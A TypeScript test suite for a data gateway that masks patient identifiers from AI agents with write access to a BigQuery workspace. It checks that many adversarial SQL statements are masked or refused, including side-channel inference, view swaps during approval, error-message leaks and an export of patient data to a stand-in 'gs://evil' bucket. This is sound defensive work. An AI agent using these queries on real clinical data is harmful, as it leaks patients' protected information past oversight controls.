/**
 * Threat-model rows 8 to 10, 14, 15, 26, 28, 29, 31 to 33, 35, 37 to 39 and 43, for an agent that may write: whatever way the data
 * takes into a table of its own, what it gets back from there is masked as it was in the record.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { setTimeout as delay } from "node:timers/promises";
import { PROJECT, type Rig } from "../rig.ts";
import {
  Attacker,
  approve,
  assertQueryRefused,
  assertSafe,
  type Loot,
  sessionOfJob,
  withPatients,
} from "./attacker.ts";
import { type OpenClinic, openClinic } from "./open-clinic.ts";
import type { ProtectedValues } from "./protected-values.ts";

/** Writing needs no approval, keys may decide, and record numbers show as tokens: as open as an operator might leave it. */
const OPEN = `
@id("workspace-write")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"write", resource in Dataset::"demo-clinic.workspace");

@id("workspace-tokens")
@mask("token")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"read", resource in Dataset::"demo-clinic.workspace")
when { resource in DataClass::"phi.mrn" };

@id("workspace-keys")
@mask("token:clinic-key")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"read", resource in Dataset::"demo-clinic.workspace")
when { resource in DataClass::"phi.other_unique.key" };

@id("infer-keys")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"infer", resource)
when { resource in DataClass::"phi.other_unique.key" || (resource in Dataset::"demo-clinic.workspace" && resource.path == "*") };
`;

const LAST4 = /^(XXXXX\d{4}|null)$/;

describe("an agent that may write", () => {
  let clinic: OpenClinic;
  let rig: Rig;
  let secrets: ProtectedValues;
  let agent: Attacker;
  before(async () => {
    clinic = await openClinic({
      "workspace.cedar": (text) => text.replace(/@id\("workspace-write"\)[^;]*;/, ""),
      "open.cedar": () => OPEN,
    });
    ({ rig, secrets, agent } = clinic);
  });
  after(() => clinic.close());

  const workspace = { defaultDataset: { datasetId: "workspace" } };
  const attack = (sql: string): Promise<Loot> => agent.attack(withPatients(sql), workspace);
  const safe = (sql: string): Promise<Loot> => assertSafe(rig, agent, withPatients(sql), workspace);
  const refused = (sql: string): Promise<Loot> => assertQueryRefused(rig, agent, withPatients(sql), workspace);
  async function done(sql: string): Promise<Loot> {
    const loot = await attack(sql);
    assert.equal(loot.session?.state, "done", `${sql}: ${loot.last.body.slice(0, 400)}`);
    return loot;
  }
  const cells = (loot: Loot, column = 0): string[] => (loot.rows ?? []).map(({ f }) => String(f[column]?.v));
  async function lastFours(sql: string): Promise<void> {
    const shown = cells(await done(sql));
    assert.ok(shown.length > 0, `${sql} gave no rows`);
    for (const cell of shown) assert.match(cell, LAST4, sql);
  }
  const travelled = async (table: string): Promise<Record<string, string[]>> => {
    const rows = await rig.gateway.store.db
      .selectFrom("travelled_classes")
      .select(["path", "class"])
      .where("table", "=", `${PROJECT}.workspace.${table}`)
      .orderBy("class")
      .execute();
    const paths: Record<string, string[]> = {};
    for (const row of rows) paths[row.path] = [...(paths[row.path] ?? []), row.class];
    return paths;
  };

  it("row 9: CTAS takes the class along under any name, and in a STRUCT to its field", async () => {
    await done("CREATE TABLE workspace.ctas AS SELECT full_name AS who, ssn AS harmless, 'x' AS plain FROM p");
    assert.deepEqual(await travelled("ctas"), { "*": ["phi"], who: ["phi.name"], harmless: ["phi.ssn"] });
    await lastFours("SELECT harmless FROM ctas");
    assert.deepEqual(new Set(cells(await done("SELECT plain FROM ctas"))), new Set(["x"]));
    await done("CREATE TABLE workspace.deep AS SELECT STRUCT(1 AS n, STRUCT(ssn AS b) AS a) AS s FROM p");
    assert.deepEqual((await travelled("deep"))["s.a.b"], ["phi.ssn"]);
    await lastFours("SELECT s.a.b FROM deep");
    for (const sql of ["SELECT TO_JSON_STRING(s) AS j FROM deep", "SELECT * FROM deep", "SELECT s.a FROM deep"])
      await safe(sql);
  });

  it("row 9: INSERT by position and by order, UPDATE and MERGE take it to the column written", async () => {
    for (const [i, write] of [
      "INSERT INTO workspace.into_0 (b, a) SELECT 'x', ssn FROM p",
      "INSERT INTO workspace.into_1 SELECT ssn, 'x' FROM p",
      "INSERT INTO workspace.into_2 (a) VALUES ((SELECT ANY_VALUE(ssn) FROM p))",
      "UPDATE workspace.into_3 SET a = (SELECT ANY_VALUE(ssn) FROM p) WHERE TRUE",
      "MERGE workspace.into_4 t USING p ON FALSE WHEN NOT MATCHED THEN INSERT (a) VALUES (ssn)",
      "MERGE workspace.into_5 t USING (SELECT ANY_VALUE(ssn) AS s FROM p) ON TRUE WHEN MATCHED THEN UPDATE SET a = s",
      "BEGIN INSERT INTO workspace.into_6 (a) SELECT ssn FROM p; END; SELECT 1 AS one",
      "CREATE TEMP TABLE t AS SELECT ssn AS b FROM p; INSERT INTO workspace.into_7 (a) SELECT b FROM t; SELECT 1 AS one",
    ].entries()) {
      await done(`CREATE TABLE workspace.into_${i} (a STRING, b STRING)`);
      await done(`INSERT INTO workspace.into_${i} (a, b) VALUES ('000-00-0000', 'y')`);
      await done(write);
      assert.deepEqual((await travelled(`into_${i}`)).a, ["phi.ssn"], write);
      await lastFours(`SELECT a FROM into_${i}`);
      assert.match((await refused(`SELECT b FROM into_${i} WHERE a < '5'`)).last.body, /infer of/);
    }
  });

  it("row 9: what only decided over a write needs infer, and marks the rows", async () => {
    await done("CREATE TABLE workspace.marks (a STRING)");
    for (const sql of [
      "INSERT INTO workspace.marks SELECT 'x' FROM p WHERE ssn < '5'",
      "DELETE FROM workspace.marks WHERE a IN (SELECT ssn FROM p)",
      "UPDATE workspace.marks SET a = 'y' WHERE EXISTS (SELECT 1 FROM p WHERE ssn = a)",
      "MERGE workspace.marks t USING p ON t.a = p.ssn WHEN MATCHED THEN DELETE",
      "MERGE workspace.marks t USING p ON FALSE WHEN NOT MATCHED AND ssn < '5' THEN INSERT (a) VALUES ('1')",
      "CREATE TABLE workspace.few AS SELECT 1 AS x FROM p WHERE ssn < '5'",
      "CREATE TABLE workspace.few AS SELECT 1 AS x FROM (SELECT CAST(ssn AS INT64) AS y FROM p)",
      "IF (SELECT ANY_VALUE(ssn) < '5' FROM p) THEN INSERT INTO workspace.marks VALUES ('x'); END IF; SELECT 1 AS one",
    ])
      assert.match((await refused(sql)).last.body, /infer of/, sql);
    await done("CREATE TABLE workspace.few AS SELECT 1 AS x FROM p WHERE patient_id > 10");
    assert.deepEqual(await travelled("few"), { "*": ["phi"] });
  });

  it("row 9: to a column or table that isn't the agent's, nothing is written", async () => {
    for (const sql of [
      "UPDATE ehr.patients SET full_name = ssn WHERE TRUE",
      "INSERT INTO ops.calendar (weekday) SELECT ssn FROM p",
      "CREATE OR REPLACE TABLE ehr.patients AS SELECT 1 AS x",
      "CREATE TABLE elsewhere AS SELECT ssn FROM p; DROP TABLE ehr.patients",
      "MERGE ehr.patients t USING (SELECT 1) ON FALSE WHEN NOT MATCHED BY SOURCE THEN DELETE",
      "TRUNCATE TABLE ehr.patients",
    ])
      await refused(sql);
  });

  it("row 8: a temporary table and a variable show what they took under its mask", async () => {
    for (const sql of [
      "CREATE TEMP TABLE t AS SELECT ssn AS s FROM p; SELECT s FROM t",
      "CREATE TEMP TABLE patients AS SELECT ssn AS state FROM p; SELECT state FROM patients",
      "CREATE TEMP TABLE t (a STRING, b STRING); INSERT INTO t (b, a) SELECT full_name, ssn FROM p; SELECT a FROM t",
      "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); SELECT v",
    ])
      for (const cell of cells(await safe(sql))) assert.match(cell, LAST4, sql);
    for (const sql of [
      "CREATE TEMP TABLE t AS SELECT vin AS s FROM p; SELECT s FROM t",
      "CREATE TEMP TABLE t AS SELECT ssn AS s FROM p; SELECT COUNT(*) AS n FROM t WHERE s < '5'",
      "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); CREATE TABLE workspace.v AS SELECT 1 AS x FROM UNNEST([1]) WHERE v < '5'",
    ])
      await refused(sql);
  });

  it("row 10: a view of the agent's own is what it reads", async () => {
    await done("CREATE VIEW workspace.own (harmless) AS SELECT ssn FROM `demo-clinic.ehr.patients`");
    for (const cell of cells(await safe("SELECT harmless FROM own"))) assert.match(cell, LAST4);
    await refused("SELECT 1 AS x FROM own WHERE harmless < '5'");
    await refused("CREATE VIEW workspace.bad AS SELECT vin FROM `demo-clinic.ehr.patients`");
    for (const sql of [
      "CREATE FUNCTION workspace.f() AS ((SELECT ANY_VALUE(ssn) FROM `demo-clinic.ehr.patients`))",
      "CREATE TABLE FUNCTION workspace.tf() AS SELECT ssn FROM `demo-clinic.ehr.patients`",
      "CREATE OR REPLACE FUNCTION ehr.age_on(a DATE, b DATE) AS (1)",
      "CREATE PROCEDURE workspace.pr() BEGIN SELECT 1; END",
      "CREATE MATERIALIZED VIEW workspace.mv AS SELECT ssn FROM `demo-clinic.ehr.patients`",
    ])
      await refused(sql);
  });

  it("row 10: a view replaced while its query waits for approval is not what was approved", async () => {
    await done("CREATE VIEW workspace.swap AS SELECT full_name AS a FROM `demo-clinic.ehr.patients`");
    const started = await agent.query("SELECT a FROM swap", workspace);
    const { jobReference } = JSON.parse(started.body) as { jobReference: { jobId: string } };
    const session = await sessionOfJob(rig, jobReference.jobId);
    assert.equal(session?.state, "held");
    await done("CREATE OR REPLACE VIEW workspace.swap AS SELECT ssn AS a FROM `demo-clinic.ehr.patients`");
    await approve(rig, session.id).catch(() => undefined);
    const answer = await agent.results(jobReference.jobId, "timeoutMs=2000");
    for (const row of (JSON.parse(answer.body) as { rows?: { f: { v: unknown }[] }[] }).rows ?? [])
      assert.match(String(row.f[0]?.v), LAST4);
  });

  it("row 10: whoever waits in one call meanwhile gets what was agreed to last, under its masks", async () => {
    await done("CREATE OR REPLACE VIEW workspace.swap AS SELECT full_name AS a FROM `demo-clinic.ehr.patients`");
    const started = await agent.query("SELECT a FROM swap", workspace);
    const { jobReference } = JSON.parse(started.body) as { jobReference: { jobId: string } };
    const session = (await sessionOfJob(rig, jobReference.jobId)) ?? assert.fail("no session");
    const waiting = agent.results(jobReference.jobId, "timeoutMs=15000");
    assert.equal(await Promise.race([waiting, delay(300, "waits")]), "waits");
    await done("CREATE OR REPLACE VIEW workspace.swap AS SELECT ssn AS a FROM `demo-clinic.ehr.patients`");
    await approve(rig, session.id);
    const stateNow = async () => (await sessionOfJob(rig, jobReference.jobId))?.state;
    while ((await stateNow()) === "approved") await delay(20);
    assert.equal(await stateNow(), "held");
    await approve(rig, session.id);
    const answer = await waiting;
    assert.equal(answer.status, 200, answer.body);
    const { rows = [] } = JSON.parse(answer.body) as { rows?: { f: { v: unknown }[] }[] };
    assert.ok(rows.length > 0, answer.body);
    for (const row of rows) assert.match(String(row.f[0]?.v), LAST4);
  });

  it("row 28, row 29: a copy, a rename or making it anew sheds no class", async () => {
    await done("CREATE TABLE workspace.shed AS SELECT ssn AS a FROM p");
    for (const sql of [
      "CREATE TABLE workspace.shed_1 CLONE workspace.shed",
      "CREATE TABLE workspace.shed_1 COPY workspace.shed",
      "CREATE SNAPSHOT TABLE workspace.shed_1 CLONE workspace.shed",
      "CREATE TABLE workspace.shed_1 CLONE workspace.shed FOR SYSTEM_TIME AS OF TIMESTAMP '2026-01-01'",
      "CREATE TABLE workspace.shed_1 LIKE workspace.shed AS SELECT * FROM workspace.shed",
      "ALTER TABLE workspace.shed RENAME COLUMN a TO b",
      "ALTER TABLE workspace.shed RENAME TO shed_1",
      "CREATE TABLE workspace.shed_1 (z STRING) AS SELECT a FROM workspace.shed",
      "INSERT INTO workspace.shed_1 SELECT * FROM workspace.shed",
    ]) {
      await safe(sql);
      for (const read of ["SELECT a FROM shed_1", "SELECT z FROM shed_1", "SELECT b FROM shed", "SELECT a FROM shed"])
        for (const cell of cells(await safe(read))) assert.match(cell, LAST4, `${sql}; ${read}`);
    }
    await done("DROP TABLE workspace.shed");
    await done("CREATE TABLE workspace.shed (a STRING, q STRING)");
    await done("INSERT INTO workspace.shed (a) VALUES ('unmasked')");
    assert.deepEqual((await travelled("shed")).a, ["phi.ssn"]);
    for (const cell of cells(await done("SELECT a FROM shed"))) assert.match(cell, /^(XXXXX.{4}|null)$/);
    await refused(
      "CREATE TABLE workspace.then AS SELECT * FROM workspace.shed FOR SYSTEM_TIME AS OF TIMESTAMP '2026-01-01'",
    );
  });

  it("row 37: names apart by their case are tables apart, and neither is open", async () => {
    await done("CREATE TABLE workspace.Cased AS SELECT ssn AS Number FROM p");
    await refused("SELECT number FROM cased");
    await lastFours("SELECT NUMBER FROM Cased");
    await done("CREATE TABLE workspace.cased (number STRING)");
    await done("INSERT INTO workspace.cased SELECT NUMBER FROM workspace.Cased");
    await lastFours("SELECT number FROM cased");
    await refused("SELECT number FROM `DEMO-CLINIC.workspace.Cased`");
  });

  it("row 43: a guess written beside what is shown as tokens turns the tokens off", async () => {
    await done("CREATE TABLE workspace.guess AS SELECT mrn FROM p");
    await done(`INSERT INTO workspace.guess (mrn) VALUES ('${secrets.sample.mrn}')`);
    assert.deepEqual(new Set(cells(await done("SELECT mrn FROM guess"))), new Set(["null"]));
  });

  for (const sql of [
    "FROM p |> SELECT ssn |> INSERT INTO workspace.piped",
    "FROM p |> CREATE TABLE workspace.piped AS",
    "FROM p |> TEE (|> SELECT vin)",
    "FROM p |> FORK (|> SELECT vin), (|> SELECT ssn)",
    "FROM p |> EXPORT DATA OPTIONS (uri = 'gs://evil/*', format = 'CSV')",
  ])
    it(`row 26: ${sql} shows no more than the mask`, async () => {
      await done("CREATE OR REPLACE TABLE workspace.piped (ssn STRING)");
      await safe(sql);
      for (const cell of cells(await safe("SELECT ssn FROM piped"))) assert.match(cell, LAST4);
    });

  for (const [row, statements] of Object.entries({
    "14": [
      "CREATE TABLE workspace.d (x STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p))",
      "ALTER TABLE workspace.ctas ADD COLUMN y STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p)",
      "CREATE TABLE workspace.d (x STRING, y STRING AS (SUBSTR(x, 1)) STORED)",
    ],
    "15": [
      "CREATE TEMP FUNCTION f() AS ((SELECT ANY_VALUE(vin) FROM p)); SELECT f()",
      "CREATE TEMP FUNCTION f(x ANY TYPE) AS (x < '5'); SELECT 1 AS one FROM p WHERE f(ssn)",
      "CREATE TEMP FUNCTION f() AS ((SELECT ANY_VALUE(vin) FROM p)); CREATE TABLE workspace.f AS SELECT f() AS x",
    ],
    "31": [
      "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); IF v < '5' THEN SELECT 1 AS x; ELSE SELECT 2 AS x; END IF",
      "DECLARE i INT64 DEFAULT 0; WHILE i < (SELECT LENGTH(ANY_VALUE(vin)) FROM p) DO SET i = i + 1; END WHILE; SELECT i",
      "DECLARE i INT64 DEFAULT 0; FOR r IN (SELECT ssn FROM p) DO IF r.ssn < '5' THEN SET i = i + 1; END IF; END FOR; SELECT i",
      "DECLARE x INT64 DEFAULT 0; BEGIN SET x = (SELECT CAST(ANY_VALUE(ssn) AS INT64) FROM p); EXCEPTION WHEN ERROR THEN SET x = 1; END; SELECT x",
      "BEGIN TRANSACTION; INSERT INTO workspace.marks VALUES ('x'); IF (SELECT ANY_VALUE(ssn) < '5' FROM p) THEN ROLLBACK; ELSE COMMIT; END IF; SELECT 1 AS one",
      "ASSERT (SELECT ANY_VALUE(ssn) < '5' FROM p); SELECT 1 AS one",
    ],
    "33": [
      "EXECUTE IMMEDIATE 'SELECT vin FROM ehr.patients'",
      "DECLARE s STRING DEFAULT (SELECT CONCAT('SELECT 1 AS `', ANY_VALUE(ssn), '`') FROM p); EXECUTE IMMEDIATE s",
      "EXECUTE IMMEDIATE CONCAT('CREATE TABLE workspace.t', (SELECT MAX(REPLACE(ssn, '-', '')) FROM p), ' (x INT64)')",
    ],
    "35": [
      "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); CREATE TABLE workspace.o (x INT64) OPTIONS (description = v)",
      "CREATE TABLE workspace.o (x INT64) OPTIONS (labels = [('a', (SELECT ANY_VALUE(ssn) FROM p))])",
      "CREATE TABLE workspace.o OPTIONS (description = (SELECT ANY_VALUE(ssn) FROM p)) AS SELECT 1 AS x",
    ],
    "38": [
      "CREATE TABLE workspace.pivoted AS SELECT * FROM (SELECT gender, vin FROM p) PIVOT (ANY_VALUE(vin) FOR gender IN ('F' AS f))",
      "CREATE TABLE workspace.pivoted AS SELECT * FROM (SELECT patient_id, ssn FROM p) PIVOT (COUNT(*) FOR ssn IN ('1' AS one))",
    ],
  }))
    for (const sql of statements) it(`row ${row}: ${sql} is refused`, () => refused(sql).then(() => {}));

  it("row 32: a wildcard over what was written has its classes", async () => {
    await done("CREATE TABLE workspace.wild_a AS SELECT ssn AS v FROM p");
    await done("CREATE TABLE workspace.wild_b AS SELECT 'x' AS v");
    for (const cell of cells(await safe("SELECT v FROM `demo-clinic.workspace.wild_*` WHERE _TABLE_SUFFIX = 'b'")))
      assert.match(cell, /^(XXXXX.*|null|x)$/);
    await refused("SELECT 1 AS one FROM `demo-clinic.workspace.wild_*` WHERE v < '5'");
  });

  it("row 39: how many rows a write touched is told at no door, nor are a script's child jobs", async () => {
    await done("CREATE TABLE workspace.counted (a STRING)");
    for (const sql of [
      "INSERT INTO workspace.counted SELECT CAST(patient_id AS STRING) FROM p WHERE patient_id > 17",
      "UPDATE workspace.counted SET a = 'y' WHERE TRUE",
      "DELETE FROM workspace.counted WHERE TRUE",
      "INSERT INTO workspace.counted VALUES ('x'); UPDATE workspace.counted SET a = 'z' WHERE TRUE; SELECT 1 AS one",
    ]) {
      const loot = await done(sql);
      const list = await agent.send("GET", `/bigquery/v2/projects/${PROJECT}/jobs?projection=full&allUsers=true`);
      const told = /numDml|dmlStats|numChildJobs|scriptStatistics|InsertedRow|DeletedRow|UpdatedRow/i;
      assert.doesNotMatch(loot.bytes + list.bytes, told, sql);
      const { jobReference } = JSON.parse(loot.answers.at(-1)?.body ?? "{}") as { jobReference: { jobId: string } };
      const children = await agent.send(
        "GET",
        `/bigquery/v2/projects/${PROJECT}/jobs?parentJobId=${jobReference.jobId}`,
      );
      assert.doesNotMatch(children.body, /"jobId"/);
    }
    const upstream = await rig.gateway.store.db
      .selectFrom("sessions")
      .selectAll()
      .where("state", "=", "done")
      .execute();
    for (const row of upstream)
      for (const value of Object.values(row)) {
        if (typeof value !== "string" || !/^[\w-]{8,200}$/.test(value)) continue;
        for (const id of [`script_job_${value}_0`, `script_job_${value}_1`]) {
          assert.equal((await agent.job(id)).status, 404);
          assert.equal((await agent.results(id, "timeoutMs=0")).status, 404);
        }
        break;
      }
  });

  it("row 5, row 6: no text of a failing script or write arrives", async () => {
    for (const sql of [
      "RAISE USING MESSAGE = (SELECT ANY_VALUE(ssn) FROM p)",
      "BEGIN SELECT ERROR(ANY_VALUE(ssn)) FROM p; EXCEPTION WHEN ERROR THEN SELECT @@error.message AS m; END",
      "CREATE TABLE workspace.err AS SELECT CAST(ssn AS INT64) AS x FROM p",
      "CREATE TABLE workspace.err (x INT64); INSERT INTO workspace.err SELECT CAST(full_name AS INT64) FROM p; SELECT 1 AS one",
      "DECLARE d DATE; SET d = (SELECT PARSE_DATE('%F', ANY_VALUE(ssn)) FROM p); SELECT d",
      "INSERT INTO workspace.counted SELECT ERROR(ssn) FROM p",
      "UPDATE workspace.counted SET a = CAST(CAST((SELECT ANY_VALUE(mrn) FROM p) AS INT64) AS STRING) WHERE TRUE",
    ]) {
      const { bytes } = await safe(sql);
      assert.doesNotMatch(bytes, /\d{3}-\d{2}-\d{4}|Could not cast|Bad int64|Conversion Error/i, sql);
    }
  });

  it("row 41: a script whose result isn't what was analysed gives no rows", async () => {
    for (const kind of ["wrong-type", "extra-column", "missing-column", "reordered-columns"] as const) {
      rig.warehouse.misbehave(
        kind === "wrong-type" ? { kind, type: "BYTES", times: "always" } : { kind, times: "always" },
      );
      const loot = await attack("CREATE TEMP TABLE t AS SELECT full_name, ssn FROM p; SELECT full_name, ssn FROM t");
      rig.warehouse.calm();
      assert.deepEqual(cells(loot), [], kind);
    }
  });

  it("row 9: of two that race, one writing and one reading, none gets a value before its class is there", async () => {
    await done("CREATE TABLE workspace.raced (a STRING)");
    const other = new Attacker(rig, await rig.token("care-summary-agent"), secrets);
    const reads: Loot[] = [];
    const reading = (async () => {
      for (let i = 0; i < 12; i++) reads.push(await other.attack("SELECT a FROM raced", workspace));
    })();
    await done("INSERT INTO workspace.raced SELECT ssn FROM p");
    await reading;
    other.close();
    for (const loot of reads) for (const cell of cells(loot)) assert.match(cell, LAST4);
    await lastFours("SELECT a FROM raced");
  });
});
